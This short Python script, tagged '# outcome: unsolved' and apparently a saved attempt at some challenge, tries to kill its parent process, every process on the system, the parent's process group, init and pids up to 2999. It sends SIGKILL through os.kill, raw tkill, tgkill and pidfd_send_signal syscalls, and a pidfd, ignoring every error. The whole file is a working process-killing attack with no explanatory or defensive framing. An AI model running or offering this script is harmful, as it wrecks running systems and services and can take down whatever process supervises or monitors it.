# outcome: unsolved
"""Signals everybody."""
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for pid in (os.getppid(), -1, -os.getppid(), 1, *(p for p in range(2, 3000) if p != os.getpid())):
    for send in (
        lambda: os.kill(pid, signal.SIGKILL),
        lambda: libc.syscall(200, pid, 9),
        lambda: libc.syscall(234, pid, pid, 9),
        lambda: libc.syscall(424, pid, 9, 0, 0),
    ):
        try:
            send()
        except OSError:
            pass
try:
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
except OSError:
    pass
